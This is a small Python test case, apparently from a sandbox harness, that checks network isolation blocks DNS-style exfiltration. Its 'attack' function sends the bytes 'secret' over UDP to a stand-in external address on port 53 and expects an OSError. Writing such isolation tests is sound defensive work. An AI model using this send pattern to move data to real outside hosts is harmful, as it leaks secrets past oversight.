"""Leak by UDP, as DNS tunnels do.

Source: exfiltration by DNS.
"""

import socket
from typing import Any

EXPECTED = "OSError"
WALLS = ("net",)


def attack(target: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendto(b"secret", ("192.0.2.1", 53))


def outside(target: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendto(b"secret", ("127.0.0.1", target["udp"]))
